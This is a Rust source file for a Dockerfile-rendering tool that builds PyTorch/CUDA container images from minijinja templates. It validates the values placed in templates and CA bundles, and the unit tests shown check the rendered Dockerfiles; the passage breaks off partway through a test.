//! Rendering: image spec → the files of its build context (the Dockerfile, the matrix's CA bundle,
//! and for devel images whose toolkit comes from PyPI the libcuda stub script) through minijinja.
//! Pure: the templates are embedded (or handed in as text by the caller when a matrix overrides
//! them), the CA bundle is handed in as text, output goes back as values. The image's lock is not
//! rendered: `imagegen lock` writes it beside these files.
//!
//! Templates run with `UndefinedBehavior::Strict`, so a typo in a template is an error, not an
//! empty string. Every value placed in a template was validated by `matrix` or comes from the
//! knowledge, whose versions are digits and dots only; `check_values` checks again right here
//! before rendering, since a Dockerfile is code.

mod ca_bundle;
mod steps_check;

use std::collections::{BTreeMap, BTreeSet};

use minijinja::{context, Environment, UndefinedBehavior};

use crate::model::axes::Variant;
use crate::model::digest::Digest;
use crate::model::extensions::{check_apt_package, check_env_key, check_requirement};
use crate::model::flavours::{check_flavour_name, Builtin};
use crate::model::matrix::{check_free_text, check_image_reference, Matrix};
use crate::resolve::fingerprint::sha256_hex;
use crate::resolve::image::{ImageSpec, ToolkitSource};

/// The embedded templates, by name.
pub(crate) const EMBEDDED_TEMPLATES: &[(&str, &str)] = &[
    (
        "runtime.Dockerfile.j2",
        include_str!("../../templates/runtime.Dockerfile.j2"),
    ),
    (
        "devel.Dockerfile.j2",
        include_str!("../../templates/devel.Dockerfile.j2"),
    ),
    ("header.j2", include_str!("../../templates/header.j2")),
    ("labels.j2", include_str!("../../templates/labels.j2")),
    (
        "apt-mirrors.j2",
        include_str!("../../templates/apt-mirrors.j2"),
    ),
    (
        "extension-wheels.j2",
        include_str!("../../templates/extension-wheels.j2"),
    ),
    (
        "extensions.j2",
        include_str!("../../templates/extensions.j2"),
    ),
    (
        "loader-cache.j2",
        include_str!("../../templates/loader-cache.j2"),
    ),
    (
        "host-venv.sh.j2",
        include_str!("../../templates/host-venv.sh.j2"),
    ),
    (
        "flavour.Dockerfile.j2",
        include_str!("../../templates/flavour.Dockerfile.j2"),
    ),
];

/// The files the built-in flavours copy into their images, by the name they have in the build
/// context (copied as they are; covered by [`Templates::digest`]).
pub(crate) const FLAVOUR_FILES: &[(Builtin, &str, &str)] = &[
    (
        Builtin::Jupyter,
        "imagegen-jupyter",
        include_str!("../../templates/imagegen-jupyter"),
    ),
    (
        Builtin::Ssh,
        "imagegen-sshd",
        include_str!("../../templates/imagegen-sshd"),
    ),
    (
        Builtin::Ssh,
        "sshd_config",
        include_str!("../../templates/sshd_config"),
    ),
];

/// The script `imagegen build` runs in a container of a runtime image whose venv it made on the
/// host (`wheels: host`), beside the image's Dockerfile.
pub(crate) const HOST_VENV_SCRIPT: &str = "host-venv.sh";

/// The prefix of a step fragment's template name (`steps:steps/team.Dockerfile`).
const FRAGMENT_PREFIX: &str = "steps:";

/// The libcuda stub script devel images with `devel_toolkit: pypi` run (copied as it is).
pub(crate) const MAKE_CUDA_STUB: &str = include_str!("../../templates/make-cuda-stub.sh");

/// The file names of a build context beside the Dockerfile.
pub(crate) const CA_BUNDLE_FILE: &str = "ca-bundle.crt";

/// How a rendered file differs from `current` for `render --check`: a unified diff, or for a CA
/// bundle the certificates added and removed (a diff of base64 says nothing to a person).
pub(crate) fn file_change(label: &str, file: &str, current: &str, wanted: &str) -> String {
    let header = format!("--- a/{label}\n+++ b/{label}\n");
    if file == CA_BUNDLE_FILE {
        return format!("{header}{}", ca_bundle::change_summary(current, wanted));
    }
    similar::TextDiff::from_lines(current, wanted)
        .unified_diff()
        .context_radius(3)
        .header(&format!("a/{label}"), &format!("b/{label}"))
        .to_string()
}
pub(crate) const CUDA_STUB_SCRIPT: &str = "make-cuda-stub.sh";

/// The template that renders images of `variant`.
fn template_name(variant: Variant) -> &'static str {
    match variant {
        Variant::Runtime => "runtime.Dockerfile.j2",
        Variant::Devel => "devel.Dockerfile.j2",
    }
}

/// The template that renders `image`: a flavour's, or its variant's.
fn template_of(image: &ImageSpec) -> &'static str {
    if image.flavour.is_some() {
        FLAVOUR_TEMPLATE
    } else {
        template_name(image.variant)
    }
}

const FLAVOUR_TEMPLATE: &str = "flavour.Dockerfile.j2";

/// Where the team's step fragment goes while the template around it is rendered: a line no
/// template or fragment holds (NUL bytes), replaced by the checked fragment.
const STEPS_MARKER: &str = "\u{0}imagegen-steps\u{0}";

#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("ca_bundle {path}: {message}")]
    CaBundle { path: String, message: String },
    #[error("template {name}: {source:#}")]
    Template {
        name: String,
        source: minijinja::Error,
    },
    #[error("{path}:{line}: {message} (the fragment as rendered for {image})")]
    StepFragment {
        path: String,
        image: String,
        line: usize,
        message: String,
    },
    #[error("image {image}: wheels: host: {message}")]
    HostVenv { image: String, message: String },
    #[error("image {image}: refusing to render unsafe value for {field}: {message}")]
    UnsafeValue {
        image: String,
        field: String,
        message: String,
    },
}

/// A template that does not compile: which, at which line, why. Every command that renders or
/// plans (`render`, `plan`, `ci`, `doctor`, `build`) meets it when it loads the project.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{template}:{line}: {message}")]
pub struct TemplateSyntax {
    /// The template's name (`runtime.Dockerfile.j2`, `steps/team.Dockerfile`).
    pub template: String,
    pub line: usize,
    pub message: String,
}

/// A set of templates: the embedded ones, with any of them replaced by a matrix's own.
#[derive(Debug, Clone)]
pub struct Templates {
    sources: BTreeMap<String, String>,
    /// Names of templates the matrix replaced.
    overridden: BTreeSet<String>,
    /// The matrix's step fragments (`steps:`), by their path as the matrix writes it. Not part
    /// of [`Templates::digest`]: each image's fingerprint covers the fragment it uses.
    fragments: BTreeMap<String, String>,
}

impl Templates {
    pub fn embedded() -> Templates {
        Templates {
            sources: EMBEDDED_TEMPLATES
                .iter()
                .map(|(name, text)| (name.to_string(), text.to_string()))
                .collect(),
            overridden: BTreeSet::new(),
            fragments: BTreeMap::new(),
        }
    }

    /// These templates with the matrix's step fragments (path as written → text).
    pub(crate) fn with_fragments(mut self, fragments: BTreeMap<String, String>) -> Templates {
        self.fragments = fragments;
        self
    }

    /// sha256 of each step fragment, by path, for the fingerprints of the images using it.
    pub(crate) fn fragment_digests(&self) -> BTreeMap<String, Digest> {
        self.fragments
            .iter()
            .map(|(path, text)| (path.clone(), Digest::of(text.as_bytes())))
            .collect()
    }

    /// Whether images of `variant` render from the embedded template, which installs from the
    /// image's lock (so such a matrix locks its images).
    pub(crate) fn embedded_for(&self, variant: Variant) -> bool {
        !self.overridden.contains(template_name(variant))
    }

    /// The embedded templates with `overrides` (name → text) laid over them.
    pub(crate) fn with_overrides(overrides: BTreeMap<String, String>) -> Templates {
        let mut templates = Self::embedded();
        templates.overridden = overrides.keys().cloned().collect();
        templates.sources.extend(overrides);
        templates
    }

    /// sha256 over every template's name and text, for image fingerprints.
    pub fn digest(&self) -> String {
        let mut all = Vec::new();
        for (name, text) in &self.sources {
            all.extend_from_slice(format!("{}:{name}{}:", name.len(), text.len()).as_bytes());
            all.extend_from_slice(text.as_bytes());
        }
        for (_, name, text) in FLAVOUR_FILES {
            all.extend_from_slice(format!("{}:{name}{}:", name.len(), text.len()).as_bytes());
            all.extend_from_slice(text.as_bytes());
        }
        sha256_hex(&all)
    }

    /// Compiles every template and step fragment, so that a syntax error is found when the
    /// project is loaded, whatever the command, with its template and line.
    pub(crate) fn compile(&self) -> Result<(), TemplateSyntax> {
        self.environment().map(|_| ()).map_err(|error| match error {
            RenderError::Template { name, source } => TemplateSyntax {
                template: name
                    .strip_prefix(FRAGMENT_PREFIX)
                    .unwrap_or(&name)
                    .to_string(),
                line: source.line().unwrap_or(1),
                message: match source.detail() {
                    Some(detail) => format!("{}: {detail}", source.kind()),
                    None => source.kind().to_string(),
                },
            },
            other => TemplateSyntax {
                template: "templates".into(),
                line: 1,
                message: other.to_string(),
            },
        })
    }

    fn environment(&self) -> Result<Environment<'_>, RenderError> {
        let mut environment = Environment::new();
        environment.set_undefined_behavior(UndefinedBehavior::Strict);
        let syntax = minijinja::syntax::SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .keep_trailing_newline(true)
            .build()
            .map_err(|source| RenderError::Template {
                name: "syntax".into(),
                source,
            })?;
        environment.set_syntax(syntax);
        let fragments = self
            .fragments
            .iter()
            .map(|(path, text)| (format!("{FRAGMENT_PREFIX}{path}"), text));
        for (name, text) in self
            .sources
            .iter()
            .map(|(name, text)| (name.clone(), text))
            .chain(fragments)
        {
            environment
                .add_template_owned(name.clone(), text.clone())
                .map_err(|source| RenderError::Template {
                    name: name.clone(),
                    source,
                })?;
        }
        Ok(environment)
    }
}

/// One rendered image directory: file name → contents.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedImage {
    pub(crate) name: String,
    pub files: BTreeMap<String, String>,
}

/// A file the matrix names whose contents go into every build context.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CaBundle {
    /// Where it was read from, for messages.
    pub(crate) path: String,
    pub(crate) text: String,
}

/// Renders every image. Output is byte-identical for the same input.
pub fn render_all(
    images: &[ImageSpec],
    matrix: &Matrix,
    templates: &Templates,
    ca_bundle: Option<&CaBundle>,
) -> Result<Vec<RenderedImage>, RenderError> {
    if let Some(bundle) = ca_bundle {
        check_ca_bundle(&bundle.text).map_err(|message| RenderError::CaBundle {
            path: bundle.path.clone(),
            message,
        })?;
    }
    let environment = templates.environment()?;
    images
        .iter()
        .map(|image| render_one(&environment, image, matrix, ca_bundle))
        .collect()
}

/// A CA bundle is PEM certificates: at least one `CERTIFICATE` block and, outside the blocks,
/// nothing but blank lines and comments (update-ca-certificates merges the file as it is).
pub(crate) fn check_ca_bundle(text: &str) -> Result<(), String> {
    const BEGIN: &str = "-----BEGIN CERTIFICATE-----";
    const END: &str = "-----END CERTIFICATE-----";
    if text.len() > 4 << 20 {
        return Err(format!(
            "{} bytes is more than a CA bundle holds (4 MiB at most)",
            text.len()
        ));
    }
    let mut inside = false;
    let mut certificates = 0;
    for (index, line) in text.lines().enumerate() {
        let line = line.trim_end();
        match (inside, line) {
            (false, BEGIN) => inside = true,
            (true, END) => {
                inside = false;
                certificates += 1;
            }
            (true, body) => {
                if !body
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c))
                {
                    return Err(format!(
                        "line {}: not base64 inside a certificate",
                        index + 1
                    ));
                }
            }
            (false, other) => {
                if !(other.is_empty() || other.starts_with('#') || !other.contains("-----"))
                    || other.chars().any(|c| c.is_control())
                {
                    return Err(format!(
                        "line {}: {other:?} is not part of a PEM certificate (only CERTIFICATE blocks are installed)",
                        index + 1
                    ));
                }
            }
        }
    }
    if inside {
        return Err("the last certificate has no END line".into());
    }
    if certificates == 0 {
        return Err(
            "no `-----BEGIN CERTIFICATE-----` block: a CA bundle is PEM certificates".into(),
        );
    }
    Ok(())
}

/// Whether `image`'s venv is made on the host (`wheels: host`): a runtime image's only; devel and
/// flavour images install their few packages over it with pip. The build plan reads the same rule.
pub(crate) fn venv_on_host(wheels: crate::model::matrix::WheelSource, image: &ImageSpec) -> bool {
    wheels == crate::model::matrix::WheelSource::Host
        && image.variant == Variant::Runtime
        && image.flavour.is_none()
}

fn render_one(
    environment: &Environment<'_>,
    image: &ImageSpec,
    matrix: &Matrix,
    ca_bundle: Option<&CaBundle>,
) -> Result<RenderedImage, RenderError> {
    check_values(image)?;
    let template_name = template_of(image);
    // The runtime image's venv made on the host (`wheels: host`): the team's steps run on the
    // installed venv inside the Docker build, which then holds no venv.
    let host_venv = venv_on_host(matrix.wheels, image);
    if host_venv {
        if let Some(steps) = &image.extensions.steps {
            return Err(RenderError::HostVenv {
                image: image.name.clone(),
                message: format!(
                    "its steps ({steps}) run on the installed venv inside the Docker build, and with `wheels: host` the venv is made on the host after it; set `wheels: cache`, or drop `steps:`"
                ),
            });
        }
    }
    let template =
        environment
            .get_template(template_name)
            .map_err(|source| RenderError::Template {
                name: template_name.into(),
                source,
            })?;
    let title = matrix
        .repository
        .rsplit('/')
        .next()
        .unwrap_or(&matrix.repository)
        .to_string();
    let mut extra_labels = matrix.labels.clone();
    extra_labels.extend(image.extensions.labels.clone());
    if let Some(flavour) = &image.flavour {
        extra_labels.extend(flavour.labels.clone());
    }
    let values = context! {
        image => minijinja::value::Serde(image),
        extensions => minijinja::value::Serde(&image.extensions),
        flavour => minijinja::value::Serde(&image.flavour),
        cuda_package => image.cuda.replace('.', "-"),
        arch_list => image.archs.iter().map(|arch| arch.as_str()).collect::<Vec<_>>().join(";"),
        ca_bundle => ca_bundle.map(|_| CA_BUNDLE_FILE),
        wheel_cache => matrix.wheels != crate::model::matrix::WheelSource::Index,
        host_venv => host_venv,
        extra_labels => extra_labels,
        title => title,
        // Without the registry: moving to another registry re-renders no runtime image.
        repository_path => matrix.repository.clone(),
    };
    // The team's step fragment, rendered with the same values (strict: an unknown name fails).
    let steps = match &image.flavour {
        Some(flavour) => &flavour.steps,
        None => &image.extensions.steps,
    };
    let steps_text = match steps {
        None => String::new(),
        Some(path) => {
            let name = format!("{FRAGMENT_PREFIX}{path}");
            environment
                .get_template(&name)
                .and_then(|fragment| fragment.render(&values))
                .map_err(|source| RenderError::Template {
                    name: format!("steps {path} for {}", image.name),
                    source,
                })?
        }
    };
    // The fragment is checked where it lands, as Docker reads the whole file: the template is
    // rendered once around a marker, and the fragment put in the marker's place.
    let render_with = |steps_text: &str| {
        template
            .render(context! {
                steps_text => steps_text,
                ..values.clone()
            })
            .map_err(|source| RenderError::Template {
                name: format!("{template_name} for {}", image.name),
                source,
            })
    };
    let text = match steps.as_ref().filter(|_| !steps_text.trim().is_empty()) {
        None => render_with(&steps_text)?,
        Some(path) => {
            let marked = render_with(STEPS_MARKER)?;
            let (before, after) = marked
                .split_once(STEPS_MARKER)
                .filter(|(_, after)| !after.contains(STEPS_MARKER))
                .ok_or_else(|| RenderError::StepFragment {
                    path: path.clone(),
                    image: image.name.clone(),
                    line: 1,
                    message: format!("the template {template_name} places steps_text other than once; this is imagegen's bug"),
                })?;
            steps_check::check_in_context(before, &steps_text, after).map_err(|problem| {
                RenderError::StepFragment {
                    path: path.clone(),
                    image: image.name.clone(),
                    line: problem.line,
                    message: problem.message,
                }
            })?;
            format!("{before}{steps_text}{after}")
        }
    };
    let mut files = BTreeMap::new();
    files.insert("Dockerfile".to_string(), normalize(&text));
    if host_venv {
        let script = environment
            .get_template("host-venv.sh.j2")
            .and_then(|template| template.render(&values))
            .map_err(|source| RenderError::Template {
                name: format!("host-venv.sh.j2 for {}", image.name),
                source,
            })?;
        files.insert(HOST_VENV_SCRIPT.to_string(), normalize(&script));
    }
    // The runtime image installs the CA bundle; devel and flavour images inherit the system store.
    if let (Some(bundle), Variant::Runtime, None) = (ca_bundle, image.variant, &image.flavour) {
        files.insert(CA_BUNDLE_FILE.to_string(), bundle.text.clone());
    }
    if let Some(builtin) = image.flavour.as_ref().and_then(|flavour| flavour.builtin) {
        for (_, name, text) in FLAVOUR_FILES.iter().filter(|(of, ..)| *of == builtin) {
            files.insert(name.to_string(), text.to_string());
        }
    }
    if matches!(image.toolkit, Some(ToolkitSource::Pypi { .. })) {
        files.insert(CUDA_STUB_SCRIPT.to_string(), MAKE_CUDA_STUB.to_string());
    }
    Ok(RenderedImage {
        name: image.name.clone(),
        files,
    })
}

/// One trailing newline, no trailing spaces, no runs of blank lines left by template blocks.
fn normalize(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blank_run = 0;
    for line in text.lines() {
        let line = line.trim_end();
        if line.is_empty() {
            blank_run += 1;
            if blank_run > 1 || out.is_empty() {
                continue;
            }
        } else {
            blank_run = 0;
        }
        out.push_str(line);
        out.push('\n');
    }
    while out.ends_with("\n\n") {
        out.pop();
    }
    out
}

/// Validates, once more and right before rendering, every value of the spec that reaches a
/// Dockerfile. A spec built by `resolve` always passes; this guards hand-made specs and
/// custom knowledge files.
pub(crate) fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
    let unsafe_value = |field: &str, message: String| RenderError::UnsafeValue {
        image: image.name.clone(),
        field: field.into(),
        message,
    };
    let version_like = |field: &str, value: &str| {
        let ok = !value.is_empty()
            && value
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".*+-_".contains(c));
        if ok {
            Ok(())
        } else {
            Err(unsafe_value(
                field,
                format!("{value:?} is not a plain version"),
            ))
        }
    };
    version_like("torch", &image.torch)?;
    version_like("torchvision", &image.torchvision)?;
    if let Some(audio) = &image.torchaudio {
        version_like("torchaudio", audio)?;
    }
    version_like("cuda", &image.cuda)?;
    for (field, value) in [
        ("base_cuda_toolkit", image.base_cuda_toolkit.as_deref()),
        ("cuda_runtime", image.cuda_runtime.as_deref()),
        ("cuda_nvcc", image.cuda_nvcc.as_deref()),
    ] {
        if let Some(value) = value {
            version_like(field, value)?;
        }
    }
    version_like("cudnn", &image.cudnn)?;
    version_like("python", &image.python)?;
    version_like("os", &image.os)?;
    version_like("tag", &image.tag)?;
    version_like("driver_min", image.driver_min.as_str())?;
    for arch in &image.archs {
        version_like("archs", arch)?;
    }
    if let Some(nccl) = &image.nccl {
        version_like("nccl", nccl)?;
    }
    for requirement in &image.requirements {
        // `torch==2.13.0+cu130`, `cuda-toolkit[nvcc,...]==13.0.*`, `ninja`.
        let ok = !requirement.is_empty()
            && requirement
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".*+-_=[],".contains(c));
        if !ok {
            return Err(unsafe_value(
                "requirements",
                format!("{requirement:?} is not a plain requirement"),
            ));
        }
    }
    for rewrite in &image.apt_rewrites {
        if rewrite
            .expression
            .chars()
            .any(|c| c.is_control() || c == '\'' || c.is_whitespace())
        {
            return Err(unsafe_value(
                "apt_rewrites",
                format!("{:?} cannot be quoted for sed", rewrite.expression),
            ));
        }
    }
    if let Some(ToolkitSource::Pypi { folder }) = &image.toolkit {
        if folder.is_empty() || !folder.chars().all(|c| c.is_ascii_alphanumeric()) {
            return Err(unsafe_value(
                "toolkit",
                format!("{folder:?} is not a folder name"),
            ));
        }
    }
    if let Some(flavour) = &image.flavour {
        check_flavour_name(&flavour.name).map_err(|m| unsafe_value("flavour", m))?;
        for package in &flavour.apt {
            check_apt_package(package).map_err(|m| unsafe_value("flavour.apt", m))?;
        }
        for requirement in &flavour.pip {
            check_requirement(requirement).map_err(|m| unsafe_value("flavour.pip", m))?;
        }
        for (key, value) in &flavour.env {
            check_env_key(key).map_err(|m| unsafe_value("flavour.env", m))?;
            check_free_text(key, value).map_err(|m| unsafe_value("flavour.env", m))?;
        }
    }
    check_image_reference(&image.base_image).map_err(|m| unsafe_value("base_image", m))?;
    check_image_reference(&image.repository).map_err(|m| unsafe_value("repository", m))?;
    check_free_text("require_cuda", &image.require_cuda)
        .map_err(|m| unsafe_value("require_cuda", m))?;
    for (field, url) in [
        ("wheel_index", Some(&image.wheel_index)),
        ("pip.index_url", Some(&image.pip.index_url)),
        ("pip.extra_index_url", image.pip.extra_index_url.as_ref()),
    ] {
        let Some(url) = url else { continue };
        if !url.starts_with("http")
            || url
                .chars()
                .any(|c| c.is_whitespace() || "\"'\\$`;&|".contains(c))
        {
            return Err(unsafe_value(field, format!("{url:?} is not a plain URL")));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::knowledge::Knowledge;
    use crate::resolve::{resolve, ResolveOptions};

    fn specs(extra: &str) -> (Vec<ImageSpec>, Matrix) {
        let matrix = Matrix::parse(
            &format!("registry: ghcr.io\nrepository: acme/pytorch\n{extra}"),
            "m.yaml",
        )
        .unwrap();
        let resolution = resolve(
            &matrix,
            &Knowledge::test_fixture(),
            &ResolveOptions::default(),
        );
        (resolution.images, matrix)
    }

    #[test]
    fn every_template_loads_under_strict_undefined() {
        let templates = Templates::embedded();
        let environment = templates.environment().unwrap();
        for (name, _) in EMBEDDED_TEMPLATES {
            environment.get_template(name).unwrap();
        }
        // "Every": the list is each template of templates/, none left out.
        let mut on_disk: Vec<String> =
            std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/templates"))
                .unwrap()
                .map(|entry| entry.unwrap().file_name().to_string_lossy().to_string())
                .filter(|name| name.ends_with(".j2"))
                .collect();
        on_disk.sort();
        let mut embedded: Vec<&str> = EMBEDDED_TEMPLATES.iter().map(|(name, _)| *name).collect();
        embedded.sort();
        assert_eq!(embedded, on_disk);
        assert!(embedded.len() >= 2);
    }

    /// Renders the matrix `extra` and returns each image's files, by image name.
    fn render(extra: &str, ca: Option<&CaBundle>) -> BTreeMap<String, BTreeMap<String, String>> {
        let (images, matrix) = specs(extra);
        render_all(&images, &matrix, &Templates::embedded(), ca)
            .unwrap()
            .into_iter()
            .map(|image| (image.name, image.files))
            .collect()
    }

    const CERTIFICATE: &str =
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2=\n-----END CERTIFICATE-----\n";

    #[test]
    fn rendering_is_deterministic_and_installs_the_lock() {
        let (images, matrix) =
            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nwheels: index\n");
        let first = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
        let second = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
        assert_eq!(first, second);
        let runtime = &first[0].files["Dockerfile"];
        assert!(
            runtime.starts_with("# GENERATED by imagegen"),
            "no `# syntax` line: BuildKit would pull a floating frontend: {runtime}"
        );
        assert!(!runtime.contains("# syntax"));
        assert!(runtime.contains("COPY requirements.lock /opt/imagegen/requirements.lock"));
        assert!(runtime.contains(
            "pip install --no-cache-dir --no-deps --require-hashes --only-binary=:all: \\\n      --index-url https://download.pytorch.org/whl/cu126 \\\n      -r /opt/imagegen/requirements.lock \\\n && pip check"
        ), "{runtime}");
        assert!(runtime
            .contains("torch==2.7.1+cu126 torchvision==0.22.1+cu126 torchaudio==2.7.1+cu126"));
        assert!(
            runtime.contains("      g++ \\\n"),
            "torch.compile on CPU needs g++"
        );
        assert!(
            runtime.contains("sysconfig.get_path(\"purelib\")"),
            "site-packages is derived"
        );
        assert!(
            !runtime.contains("/opt/venv/lib/python3"),
            "no hard-coded Python path"
        );
        assert!(
            runtime.contains("v == \"3.12\""),
            "the base's python3 is checked"
        );
        assert!(runtime
            .contains("NVIDIA_REQUIRE_CUDA=\"cuda>=12.6 brand=unknown,driver>=470,driver<471"));
        assert!(runtime.contains("imagegen.driver.min=\"560.35.05\""));
        assert!(runtime.contains("imagegen.torchvision=\"0.22.1\""));
        assert!(runtime.contains("imagegen.torchaudio=\"2.7.1\""));
        assert!(runtime.contains("COPY gpu-selftest /usr/local/bin/gpu-selftest"));
        assert!(
            !runtime.contains("nvcc"),
            "runtime carries no CUDA compiler"
        );
        assert_eq!(first[0].files.keys().collect::<Vec<_>>(), ["Dockerfile"]);
        let devel = &first[1].files["Dockerfile"];
        assert!(
            devel.contains("FROM ghcr.io/acme/pytorch:2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
        );
        assert!(devel.contains("cuda-nvcc-12-6"));
        assert!(devel.contains("TORCH_CUDA_ARCH_LIST=\"5.0;6.0;7.0;7.5;8.0;8.6;9.0\""));
    }

    #[test]
    fn companions_are_exact_and_the_nccl_label_is_set() {
        let text = &render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n",
            None,
        )["2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"]["Dockerfile"];
        assert!(text.contains("imagegen.torchvision=\"0.28.0\""), "{text}");
        assert!(text.contains("imagegen.torchaudio=\"2.11.0\""), "{text}");
        assert!(text.contains("imagegen.nccl=\"2.29.7\""), "{text}");
        assert!(text.contains("IMAGEGEN_NCCL=2.29.7"), "{text}");
        assert!(!text.contains(".*\""), "no glob in a pin or label: {text}");
    }

    #[test]
    fn torch_from_a_plain_index_installs_the_release_without_suffix() {
        let images = render(
            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\ntorch_wheels: pypi\nwheels: index\nmirrors:\n  pip_index: https://proxy.example.com/pypi/simple\n",
            None,
        );
        let text = &images["2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"]["Dockerfile"];
        assert!(
            text.contains("--index-url https://proxy.example.com/pypi/simple \\\n      -r /opt/imagegen/requirements.lock"),
            "{text}"
        );
        assert!(!text.contains("download.pytorch.org"), "{text}");
        assert!(
            text.contains("lock: torch==2.13.0 torchvision==0.28.0 torchaudio==2.11.0 and"),
            "{text}"
        );
    }

    #[test]
    fn mirrors_cover_every_apt_host_on_both_architectures() {
        let mirrors = "mirrors:\n  apt: http://m.example.com/ubuntu\n  apt_ports: http://m.example.com/ubuntu-ports\n  nvidia_apt: https://m.example.com/nvidia\n  pip_index: https://m.example.com/pypi/simple\n  torch_index: https://m.example.com/torch/whl\n  base_registry: m.example.com/hub\n";
        let images = render(
            &format!("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nplatforms: [linux/amd64, linux/arm64]\nwheels: index\n{mirrors}"),
            None,
        );
        let names: Vec<&String> = images.keys().collect();
        assert_eq!(names.len(), 4, "{names:?}");
        for (name, files) in &images {
            let text = &files["Dockerfile"];
            let (own, other) = if name.ends_with("-amd64") {
                (
                    "archive\\.ubuntu\\.com/ubuntu/?([[:space:]]|$)#http://m.example.com/ubuntu/",
                    "ports\\.ubuntu",
                )
            } else {
                ("ports\\.ubuntu\\.com/ubuntu-ports/?([[:space:]]|$)#http://m.example.com/ubuntu-ports/", "archive\\.ubuntu")
            };
            // Runtime and devel both rewrite their apt sources before their first apt-get.
            let rewrite = text
                .find("-exec sed -i -E")
                .unwrap_or_else(|| panic!("{name}: {text}"));
            assert!(rewrite < text.find("apt-get update").unwrap(), "{name}");
            assert!(text.contains(own), "{name}: {text}");
            assert!(!text.contains(other), "{name}: {text}");
            assert!(
                text.contains("-e 's#https?://developer\\.download\\.nvidia\\.com/compute/cuda/repos#https://m.example.com/nvidia#g'"),
                "{name}: {text}"
            );
            assert!(
                text.contains("--index-url https://m.example.com/torch/whl/cu130 \\\n      --extra-index-url https://m.example.com/pypi/simple"),
                "{name}: {text}"
            );
            if name.contains("-runtime-") {
                assert!(
                    text.contains("FROM m.example.com/hub/nvidia/cuda:13.0.0-base-ubuntu24.04"),
                    "{name}"
                );
            } else {
                assert!(
                    text.contains(
                        "FROM ghcr.io/acme/pytorch:2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04-"
                    ),
                    "{name}"
                );
            }
            assert!(!text.contains("security.ubuntu.com/ubuntu#") || name.ends_with("-amd64"));
        }
    }

    /// The value of `label` in a rendered Dockerfile's LABEL instruction, if it is set.
    fn label<'t>(text: &'t str, label: &str) -> Option<&'t str> {
        let start = text.find(&format!(" {label}=\""))? + label.len() + 3;
        Some(&text[start..start + text[start..].find('"')?])
    }

    #[test]
    fn labels_name_a_toolkit_only_where_the_base_holds_one_and_the_runtime_from_the_lock() {
        // On a Debian base the matrix names: no toolkit in the runtime image; the CUDA runtime
        // and (devel, toolkit wheels) nvcc are the lock's.
        let matrix = Matrix::parse(
            "registry: ghcr.io\nrepository: acme/pytorch\ntorch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [debian12, ubuntu24.04]\ntorch_wheels: pypi\ndevel_toolkit: pypi\nbase_images:\n  runtime: {debian12: \"local/bookworm:1\"}\n",
            "m.yaml",
        )
        .unwrap();
        let runtime_lock = format!(
            "nvidia-cuda-runtime==13.0.96 \\\n    --hash=sha256:{}\n",
            "a".repeat(64)
        );
        let devel_lock = format!(
            "{runtime_lock}nvidia-cuda-nvcc==13.0.88 \\\n    --hash=sha256:{}\n",
            "b".repeat(64)
        );
        let mut options = ResolveOptions::default();
        for os in ["debian12", "ubuntu24.04"] {
            options.locked_cuda.insert(
                format!("2.13.0-cuda13.0-cudnn9-runtime-{os}"),
                crate::resolve::lock::locked_cuda(&runtime_lock).unwrap(),
            );
            options.locked_cuda.insert(
                format!("2.13.0-cuda13.0-cudnn9-devel-{os}"),
                crate::resolve::lock::locked_cuda(&devel_lock).unwrap(),
            );
        }
        let images = resolve(&matrix, &Knowledge::test_fixture(), &options).images;
        let rendered: BTreeMap<String, String> =
            render_all(&images, &matrix, &Templates::embedded(), None)
                .unwrap()
                .into_iter()
                .map(|image| (image.name, image.files["Dockerfile"].clone()))
                .collect();
        let labels = |name: &str| {
            let text = &rendered[name];
            (
                label(text, "imagegen.cuda.toolkit"),
                label(text, "imagegen.cuda.runtime"),
                label(text, "imagegen.cuda.nvcc"),
                label(text, "imagegen.cuda"),
            )
        };
        assert_eq!(rendered.len(), 4, "{:?}", rendered.keys());
        assert_eq!(
            labels("2.13.0-cuda13.0-cudnn9-runtime-debian12"),
            (None, Some("13.0.96"), None, Some("13.0"))
        );
        assert_eq!(
            labels("2.13.0-cuda13.0-cudnn9-devel-debian12"),
            (None, Some("13.0.96"), Some("13.0.88"), Some("13.0"))
        );
        // On nvidia/cuda: the base's toolkit release beside the lock's runtime.
        assert_eq!(
            labels("2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"),
            (Some("13.0.0"), Some("13.0.96"), None, Some("13.0"))
        );
        assert_eq!(
            labels("2.13.0-cuda13.0-cudnn9-devel-ubuntu24.04"),
            (
                Some("13.0.0"),
                Some("13.0.96"),
                Some("13.0.88"),
                Some("13.0")
            )
        );
        // Without a lock: no runtime label (nothing to read it from), never a guess.
        let (images, matrix) =
            specs("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
        let text = &render_all(&images, &matrix, &Templates::embedded(), None).unwrap()[0].files
            ["Dockerfile"];
        assert_eq!(label(text, "imagegen.cuda.runtime"), None, "{text}");
        assert_eq!(
            label(text, "imagegen.cuda.toolkit"),
